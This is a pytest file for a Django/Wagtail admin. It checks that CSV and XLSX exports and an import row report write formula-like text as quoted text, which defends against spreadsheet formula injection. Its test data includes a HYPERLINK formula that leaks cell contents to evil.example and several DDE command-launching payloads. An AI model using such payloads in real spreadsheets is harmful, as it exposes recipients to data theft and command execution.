"""Spreadsheet exports never hand a formula to whoever opens them (issue 10, item 10): every
list export in the admin (CSV and XLSX) and the reach import's row report write text that looks
like a formula as text, and keep numbers as numbers."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from campaigns.access.exports import csv_cell, is_formula_like
from campaigns.reach.spreadsheet import row_report
from tests.factories import (
    ChannelFactory,
    CountryFactory,
    IndicatorFactory,
    OrganisationFactory,
    RegionFactory,
    SuperUserFactory,
    agreement,
    allocation,
    campaign_page,
    country_page,
    fresh,
    funder,
    home_page,
    material,
    module_data,
    reach_report,
)

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
HOSTILE = {
    "link": LINK,
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "fullwidth": "\uff1d1+1",
    "spaced": "  =1+1",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_formula_like_text_gets_a_quote(text):
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [12, -12, Decimal("-40000.00"), 1.5, None, "-12", "+3.5", "12", "Radio", "a=b"]
)
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert csv_cell(value) == value


def test_dates_are_unchanged():
    today = datetime.date(2026, 3, 1)
    assert csv_cell(today) is today


# --- The admin's list exports --------------------------------------------------------------


def snippet_list(model):
    return reverse(f"wagtailsnippets_campaigns_{model.lower()}:list")


@pytest.fixture(scope="module")
def hostile_world_data(django_db_setup, django_db_blocker):
    """Hostile text in every exported model, built once for the module (the tests only read)."""
    with module_data(django_db_blocker):
        home_page()
        country = CountryFactory(code="SN")
        campaign = campaign_page(country_page(country), title=LINK, slug="evil")
        material(campaign, title="@SUM(1+1)*cmd|' /C calc'!A0")
        deal = agreement(
            funder(name=LINK, logo=False, short_name="+cmd|' /C calc'!A0"),
            reference="-2+3+cmd",
            title="=1+1",
            programme="\t=1+1",
        )
        allocation(deal, campaign, amount="40000.00")
        region = RegionFactory(country=country, code="=SN-DK", name="Dakar")
        channel = ChannelFactory(code="@radio", name="Radio")
        organisation = OrganisationFactory(name=LINK, countries=[country])
        indicator = IndicatorFactory(code="people", name_en=LINK, unit="=1+1")
        month = datetime.date(2026, 3, 1)
        reach_report(campaign, organisation, region, channel, month, {indicator: 5})
        yield campaign


@pytest.fixture
def hostile_world(hostile_world_data, home):
    return fresh(hostile_world_data)


EXPORTS = {
    "funders": snippet_list("Funder"),
    "agreements": snippet_list("FundingAgreement"),
    "allocations": snippet_list("Allocation"),
    "materials": snippet_list("Material"),
    "reach reports": snippet_list("ReachReport"),
    "indicators": snippet_list("Indicator"),
    "campaign audit": "/admin/reports/campaign-audit/",
    "site history (Wagtail's)": "/admin/reports/site-history/",
}


def content(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("where", EXPORTS)
def test_csv_exports_write_formulas_as_text(client, hostile_world, where):
    client.force_login(SuperUserFactory(username="root"))
    response = client.get(EXPORTS[where], {"export": "csv"})
    assert response.status_code == 200, where
    table = list(csv.reader(io.StringIO(content(response).decode("utf-8-sig"))))
    assert len(table) > 1, "the export has rows"
    cells = [cell for row in table for cell in row]
    dangerous = [cell for cell in cells if is_formula_like(cell)]
    assert dangerous == []
    assert any(cell.startswith("'=") or cell.startswith("'+") or cell.startswith("'@")
               or cell.startswith("'-") or cell.startswith("'\t") for cell in cells)  # fmt: skip


@pytest.mark.parametrize("where", EXPORTS)
def test_xlsx_exports_write_formulas_as_text(client, hostile_world, where):
    client.force_login(SuperUserFactory(username="root"))
    response = client.get(EXPORTS[where], {"export": "xlsx"})
    assert response.status_code == 200, where
    sheet = openpyxl.load_workbook(io.BytesIO(content(response))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert any(is_formula_like(text) for text in texts), "the hostile text is there, as text"


def test_amounts_stay_numbers(client, hostile_world):
    client.force_login(SuperUserFactory(username="root"))
    response = client.get(snippet_list("Allocation"), {"export": "csv"})
    rows = list(csv.DictReader(io.StringIO(content(response).decode("utf-8-sig"))))
    assert Decimal(rows[0]["Amount"]) == Decimal("40000.00")
    response = client.get(snippet_list("Allocation"), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(content(response))).active
    header = [cell.value for cell in sheet[1]]
    record = dict(zip(header, [cell.value for cell in sheet[2]], strict=True))
    assert isinstance(record["Amount"], (int, float)) and record["Amount"] == 40000


def test_every_export_view_is_covered():
    """The neutralising methods are Wagtail's mixin's own, so any export view added later has
    them too."""
    assert SpreadsheetExportMixin.neutralises_formulas
    view = SpreadsheetExportMixin()
    view.custom_field_preprocess, view.custom_value_preprocess = {}, {}
    assert view.preprocess_field_value("x", LINK, "csv") == "'" + LINK
    assert view.preprocess_field_value("x", 5, "csv") == 5


# --- The reach import's row report ---------------------------------------------------------

PROBLEMS = [
    {"row": 2, "column": "notes", "value": LINK, "message": "Too long", "level": "error"},
    {"row": 3, "column": "total", "value": -5, "message": "Not a count", "level": "error"},
    {"row": 4, "column": "total", "value": "+12", "message": "Not a count", "level": "error"},
]


def test_row_report_csv_quotes_formulas():
    table = list(csv.reader(io.StringIO(row_report.as_csv(PROBLEMS).decode("utf-8-sig"))))
    assert table[1] == ["2", "notes", "'" + LINK, "Too long", "error"]
    assert table[2][2] == "-5" and table[3][2] == "+12"  # numbers stay numbers


def test_row_report_xlsx_writes_formulas_as_text():
    sheet = openpyxl.load_workbook(io.BytesIO(row_report.as_xlsx(PROBLEMS))).active
    link = sheet["C2"]
    assert link.data_type == "s" and link.value == LINK
    assert sheet["C3"].value == -5 and sheet["A2"].value == 2
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []


def test_text_never_formula_turns_formula_cells_of_a_normal_workbook_into_text():
    from campaigns.access.exports import text_never_formula

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append([LINK, 5, "Radio"])
    assert sheet["A1"].data_type == "f"  # what openpyxl does with such a text by itself
    text_never_formula(sheet)
    out = io.BytesIO()
    workbook.save(out)
    again = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert (again["A1"].data_type, again["A1"].value) == ("s", LINK)
    assert again["B1"].value == 5 and again["C1"].value == "Radio"
